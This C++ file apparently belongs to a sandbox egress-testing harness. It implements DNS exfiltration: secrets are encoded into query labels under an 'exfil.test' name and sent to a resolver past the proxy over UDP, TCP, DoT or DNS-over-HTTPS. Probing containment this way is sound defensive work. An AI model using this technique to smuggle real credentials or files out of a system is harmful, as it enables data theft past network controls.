// The dns technique: a query whose name carries the secret, sent to a resolver past the proxy, as DNS or as HTTPS. The
// query alone is the leak: no answer has to come back.
#include <map>

#include "attacks/carrier.h"
#include "harness/digest.h"
#include "harness/witness.h"

namespace bottle {
namespace {

const std::map<std::string, int> kTypes = {{"A", 1},    {"NS", 2},    {"CNAME", 5}, {"NULL", 10},  {"MX", 15},
                                           {"TXT", 16}, {"AAAA", 28}, {"SRV", 33},  {"HTTPS", 65}, {"ANY", 255}};

std::string as_u16(int value) { return {static_cast<char>(value >> 8), static_cast<char>(value & 0xff)}; }

// RFC 1035 4.1: one question, recursion desired. The id is part of the nonce, so that the message is the same each time
// that it is built for one attempt.
std::string query(const std::string& name, int type, const std::string& nonce) {
  const std::string digest = from_hex(sha256_hex(nonce)).value_or("00");
  std::string message = digest.substr(0, 2) + as_u16(0x0100) + as_u16(1) + as_u16(0) + as_u16(0) + as_u16(0);
  std::size_t at = 0;
  while (at <= name.size()) {
    const std::size_t dot = std::min(name.find('.', at), name.size());
    message += static_cast<char>(dot - at);
    message += name.substr(at, dot - at);
    at = dot + 1;
  }
  return message + '\0' + as_u16(type) + as_u16(1);
}

// RFC 8484 4.1, to a resolver that is known by its address: no name has to be looked up for it.
std::string doh_request(bool post, const std::string& host, const std::string& message) {
  const std::string target = post ? "POST /dns-query" : "GET /dns-query?dns=" + to_base64url(message);
  std::string head = target + " HTTP/1.1\r\nHost: " + host + "\r\nAccept: application/dns-message\r\n";
  if (post)
    head += "Content-Type: application/dns-message\r\nContent-Length: " + std::to_string(message.size()) + "\r\n";
  return head + "Connection: close\r\n\r\n" + (post ? message : "");
}

// Another protocol with the same question in it.
void ask_over_https(const std::string& transport, const std::string& message, const Brief& brief, Attempt& attempt) {
  const Endpoint server = is_control(brief.arm) ? brief.route.echo : Endpoint{brief.route.public_resolver, 443};
  const std::string host = server.port == 443 ? server.address : to_string(server);
  const std::string request = doh_request(transport == "doh-post", host, message);
  attempt.action = {{"action", "http"},
                    {"address", server.address},
                    {"port", server.port},
                    {"timeout_ms", 4000},
                    {"read_ms", 3000},
                    {"request", to_base64(request)},
                    {"tls", {{"sni", ""}, {"verify", false}, {"ca", brief.route.ca_file}}}};
  attempt.sent = {segment("request", request)};
  attempt.channel = "https to the echo, prober";
  attempt.bare_at = {"http"};
}

Attempt build(const Choice& choice, const Brief& brief) {
  Attempt attempt{.nonce = brief.nonce};
  const std::string transport = chosen(choice, "transport", "udp");
  const bool over_https = transport.starts_with("doh-");
  const std::string secret = carried_secret(choice, brief);
  const std::string labels = secret.empty() ? "" : as_labels(secret) + ".";
  const bool own = chosen(choice, "server", "public") == "default";
  if (own && over_https) {
    attempt.not_applicable = "nobody knows an address at which the bottle's own resolver speaks HTTPS";
    return attempt;
  }
  const std::string name = brief.companion ? brief.allowed_host : labels + brief.nonce + ".exfil.test";
  const std::string message = query(name, kTypes.at(chosen(choice, "qtype", "A")), brief.nonce);

  std::string server = own ? brief.route.resolver : brief.route.public_resolver;
  int port = transport == "dot" ? 853 : 53;
  if (is_control(brief.arm) && !brief.companion) {
    server = brief.route.echo.address;
    port = brief.route.echo.port;
  }
  attempt.action = {{"action", "dns"}, {"transport", transport},        {"server", server},
                    {"port", port},    {"message", to_base64(message)}, {"read_ms", kSilenceMs}};
  attempt.sent = {segment("query", message)};
  attempt.channel = "dns over " + transport + " to the echo, prober";
  attempt.delivered_at = "echo";
  attempt.bare_at = {"dns"};
  if (over_https) ask_over_https(transport, message, brief, attempt);
  attempt.secret = carried_kind(choice);
  attempt.wall = own ? Layer::resolver : Layer::network;
  if (own) attempt.companion = "an allowed name over " + transport + " from the bottle's resolver, prober";
  if (brief.arm == Arm::bare) attempt.place = brief.open_road;
  return attempt;
}

}  // namespace

Technique make_technique_dns() {
  std::vector<std::string> types;
  for (const auto& [name, number] : kTypes) types.push_back(name);
  return {.name = "dns",
          .parameters = {{"server", {"public", "default"}},
                         {"transport", {"udp", "tcp", "dot", "doh-get", "doh-post"}},
                         {"qtype", types},
                         {"secret", kSecretKinds},
                         {"encoding", {"raw", "hex", "base32"}}},
          .build = build};
}

}  // namespace bottle
